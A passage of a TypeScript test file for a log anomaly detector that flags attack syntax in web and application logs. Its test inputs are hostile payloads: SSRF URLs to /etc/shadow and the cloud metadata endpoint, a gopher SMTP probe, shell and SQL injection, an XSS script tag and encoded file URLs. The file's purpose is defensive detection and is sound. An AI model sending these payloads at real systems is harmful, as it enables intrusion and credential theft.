    for (let i = 0; i < 300; i++) trainer.train(logfmt(`https://${hosts[i % 3]}/${(0x10000 + i * 7919).toString(16)}`));
    const model = trainer.model();
    const t = packedTarkin({ model });
    const filter = new FluentBitFilter(packModule(coreWasm(), { model, lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const reason = (url: string) => JSON.parse(filter.filter(JSON.stringify({ log: logfmt(url) }))!).tarkin_reason;
    expect(t.score(logfmt("https://hooks.example.net/incoming/4f2a")).anomaly).toBe(false);
    for (const url of ["file:///etc/shadow", "gopher://10.0.0.5:25/_HELO", "http://169.254.169.254/latest/meta-data/"]) {
      expect(t.score(logfmt(url)).anomaly, url).toBe(true);
      expect(t.explainFields(logfmt(url)).fields, url).toContainEqual(expect.objectContaining({ field: "scheme of webhook_url", evidence: "new value", values: 300 }));
    }
    // Shaped as the field's URLs, only the scheme is new; the reason names what weighs most.
    expect(reason(`http://${hosts[0]}/1f3a7`)).toBe("scheme of webhook_url: a value it never held");
    // A gopher URL to a host of the server's network is attack syntax too, which weighs most.
    expect(reason("gopher://10.0.0.5:25/_HELO")).toBe("webhook_url: internal url syntax");
  });

  it("reads a JSON object's string values for sentiment, where they lie: its failed login is security evidence", () => {
    const json = (msg: string, user: string) => JSON.stringify({ time: "2024-03-12T10:00:00Z", level: "INFO", msg, user, status: 200 });
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) trainer.train(json(["login ok", "cart updated", "order placed"][i % 3], ["alice", "bob", "carol"][i % 3]));
    // Packed as tarkin pack does: with the access words (login) and the operations' failures (failed).
    const tarkin = ModuleDriver.fromBytes(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS)));
    const failed = json("login failed", "bob");
    const verdict = tarkin.score(failed);
    expect([verdict.anomaly, verdict.securityNegative]).toEqual([true, true]);
    expect(verdict.compound).toBeLessThan(0);
    // explain names the words from the message itself.
    expect(tarkin.explainSentiment(failed).words.map((w) => w.word)).toEqual(["2024-03-12T10:00:00Z", "INFO", "login", "failed", "bob"]);
    // VADER itself reads text as written (the reference's parity): the JSON holds no word of its lexicon.
    expect(tarkin.sentiment(failed).compound).toBe(0);
    // After a syslog prefix, the same: the prefix's words as written, the object's values.
    const prefixed = `Mar  5 10:00:01 web app[311]: ${failed}`;
    expect(tarkin.explainSentiment(prefixed).words.map((w) => w.word)).toEqual(["Mar", "10:00:01", "web", "app[311]:", "2024-03-12T10:00:00Z", "INFO", "login", "failed", "bob"]);
    expect(tarkin.score(prefixed).securityNegative).toBe(true);
  });

  it("names the field after a quoted value as such, not by the value (the user agent after a referer)", () => {
    const combined = (path: string, referer: string, agent: string) => `203.0.113.7 - - [05/Mar/2024:10:00:00 +0100] "GET ${path} HTTP/1.1" 200 5120 "${referer}" "${agent}"`;
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) trainer.train(combined(["/", "/news", "/about"][i % 3], `https://example.org/${["", "news", "about"][(i + 1) % 3]}`, ["Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", "curl/8.5.0"][i % 2]));
    const model = trainer.model();
    const filter = new FluentBitFilter(packModule(coreWasm(), { model, lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const verdict = JSON.parse(filter.filter(JSON.stringify({ log: combined("/news", "https://example.org/", "<script>alert(1)</script>") }))!);
    expect([verdict.tarkin_anomaly, verdict.tarkin_reason]).toEqual([true, "after a quoted value: html/script syntax"]);
    expect(packedTarkin({ model }).explainFields(combined("/news", "https://example.org/", "<script>alert(1)</script>")).fields[0].field).toBe("after a quoted value");
  });

  it("a command on a line of its own, a SQL statement stacked after a ';' and a URL with its scheme escaped are attack syntax", () => {
    const combined = (query: string, agent: string) => `203.0.113.7 - - [05/Mar/2024:10:00:00 +0100] "GET /search?${query} HTTP/1.1" 200 5120 "https://example.org/" "${agent}"`;
    const browsers = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) Mobile/15E148"];
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) trainer.train(combined(`q=${["rain", "local+news", "election+results"][i % 3]}&next=${["https://example.org/news", "https://example.org/"][i % 2]}`, browsers[i % 2]));
    const filter = new FluentBitFilter(packModule(coreWasm(), { model: trainer.model(), lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const verdictOf = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
    const reasons = [
      combined("q=%0Aid&next=https://example.org/", browsers[0]),
      combined("q=rain&next=https://example.org/", "1; DROP TABLE users"),
      combined("q=rain&next=h%74tp://127.0.0.1:8080/admin", browsers[0]),
      combined("q=rain&next=%66ile:///etc/passwd", browsers[0]),
    ].map((line) => [verdictOf(line).tarkin_anomaly, verdictOf(line).tarkin_reason]);
    expect(reasons).toEqual([[true, "q: shell syntax"], [true, "after a quoted value: sql syntax"], [true, "next: internal url syntax"], [true, "next: internal url syntax"]]);
    // The same lines, as people write them, are none.
    expect(verdictOf(combined("q=rain&next=https://example.org/news", browsers[1])).tarkin_anomaly).toBe(false);
  });

  it("a value far longer than its field's is an alert, named by its key, its length read decoded", () => {
    const logfmt = (agent: string, query: string) => `level=INFO msg=request path=/api/v2/products query="${query}" user_agent="${agent}" status=200`;
    const agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", "curl/8.5.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) Mobile/15E148"];
    const trainer = packedTarkin();
    for (let i = 0; i < 600; i++) trainer.train(logfmt(agents[i % 3], `search=${["shoes", "red dress", "lamp"][i % 3]}&page=${i % 7}`));
    const model = trainer.model();
    const filter = new FluentBitFilter(packModule(coreWasm(), { model, lexicon: defaultLexicon(), settings: DEFAULT_SETTINGS }));
    const verdict = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
    // Agents of 10 to 72 bytes: 10,000 is 230 deviations out (Cantelli: 1 in 50,000).
    const long = verdict(logfmt(`Mozilla/5.0 ${"A".repeat(10_000)}`, "search=lamp&page=1"));
    expect(long.tarkin_anomaly).toBe(true);
    expect(long.tarkin_reason).toBe("user_agent: far longer than its values");
    // 3,000 is 70 of the agents' deviations (1 in 5,000), not enough alone; but longer than any of
    // the log's values, it is judged against all of them too, whose spread is narrower still.
    expect(verdict(logfmt(`Mozilla/5.0 ${"A".repeat(3000)}`, "search=lamp&page=1"))).toMatchObject({ tarkin_anomaly: true, tarkin_reason: "user_agent: far longer than its values" });
    // Twice the longest agent: evidence, not an alert.
    const longish = verdict(logfmt(`Mozilla/5.0 ${"A".repeat(140)}`, "search=lamp&page=1"));
    expect([longish.tarkin_anomaly, longish.tarkin_reason]).toEqual([false, "user_agent: far longer than its values"]);
    // Percent-encoded, a value is as long as it reads: 120 bytes as written are the 40 of 20 é.
    const t = packedTarkin({ model });
    const lengthEvidence = (query: string) => t.explainFields(logfmt(agents[0], query)).fields.find((f) => f.evidence === "length")?.decades;
    expect(lengthEvidence(`search=${"%C3%A9".repeat(20)}&page=1`)).toBeGreaterThan(0);
    expect(lengthEvidence(`search=${"%C3%A9".repeat(20)}&page=1`)).toBe(lengthEvidence(`search=${"é".repeat(20)}&page=1`));
    expect(verdict(logfmt(agents[0], `search=${"A".repeat(10_000)}&page=1`)).tarkin_reason).toBe("query: far longer than its values");
  });

  it("a value far longer than all the log's is found in a busy model too: a collision past the longest length is no length held", () => {
    // A shop's log of many made-up values (names, e-mails, addresses) fills the sketch's value half,
    // where an item never counted reads as counted often enough that some power of two far past the
    // longest value did, and read as held made every length held.
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const word = (n: number) => Array.from({ length: n }, () => "abcdefghijklmnopqrstuvwxyz"[Math.floor(next() * 26)]).join("");
    const trainer = packedTarkin();
    for (let i = 0; i < 3_000; i++) {
      trainer.train(`2026-03-09T06:00:00Z INFO [shop] handled path=/shop/${["cart", "pay", "search", "item"][i % 4]}.jsp nombre=${word(6)} apellidos=${word(8)} email=${word(7)}@${word(5)}.es ciudad=${word(9)} status=200`);
    }
    const model = trainer.model();
    expect(sketchFill(model.fields!).values.collisions).toBeGreaterThan(0.05); // 0.11: the application dev set's is 0.056
    const t = packedTarkin({ model });
    const long = "A".repeat(3000);
    // In a field it knows, and in one never seen (judged against all the log's values).
    for (const line of [`2026-03-10T06:00:00Z INFO [shop] handled path=/shop/pay.jsp nombre=${long} status=200`, `2026-03-10T06:00:00Z INFO [shop] handled path=/shop/pay.jsp debug=${long} status=200`]) {
      expect(t.explainFields(line).fields.map((f) => f.evidence), line.slice(0, 80)).toContain("length");
    }
    // Longer than any value of the log, in every field it knows, whatever a field's own count reads there.
    for (const key of ["nombre", "apellidos", "ciudad"]) {
      for (let length = 150; length <= 200_000; length *= 2) {
        const line = `2026-03-10T06:00:00Z INFO [shop] handled path=/shop/pay.jsp ${key}=${"A".repeat(length)} status=200`;
        expect(t.explainFields(line).fields.filter((f) => f.field === `${key}=`).map((f) => f.evidence), `${key} ${length}`).toContain("length");
      }
    }
    // A field of blobs and dashes, its blobs far longer than any other value of the log: a length
    // between or at them is one it held.
    const blobs = packedTarkin();
    for (let i = 0; i < 600; i++) blobs.train(`level=info msg=stored id=${i % 9} payload=${i % 10 ? "-" : word(8).repeat(250)}`);
    const b = packedTarkin({ model: blobs.model() });
    for (const length of [300, 2000]) expect(b.explainFields(`level=info msg=stored id=3 payload=${word(10).repeat(length / 10)}`).fields.map((f) => f.evidence), `${length}`).not.toContain("length");
  });

  it("the gate's state carries across records and a repeated outlier stops being infrequent", () => {
    const t = trained("default", 2);
    for (const line of TRAINING) t.score(line);
    const outlier = "Accepted password for alice from ;;;;;;;; port 4444 ssh2";
    const first = t.score(outlier);
    expect(first.infrequent).toBe(true);
    expect(first.anomaly).toBe(true);
    for (let i = 0; i < 50; i++) t.score(outlier);
    expect(t.score(outlier).infrequent).toBe(false);
    expect(t.gate().n).toBe(TRAINING.length + 52);
    t.resetGate();
    expect(t.gate().n).toBe(0);
  });

  it("fear is surprise times negativity, in [0, 1]", () => {
    const t = trained("tarkin");
    for (const text of ["a horrible, terrible, awful failure!!!", "great success", "session opened", "ÿÿÿ"]) {
      const s = t.score(text);
      expect(s.fear).toBeCloseTo(s.surprise * ((1 - s.compound) / 2), 15);
      expect(s.fear).toBeGreaterThanOrEqual(0);
      expect(s.fear).toBeLessThanOrEqual(1);
    }
  });
});
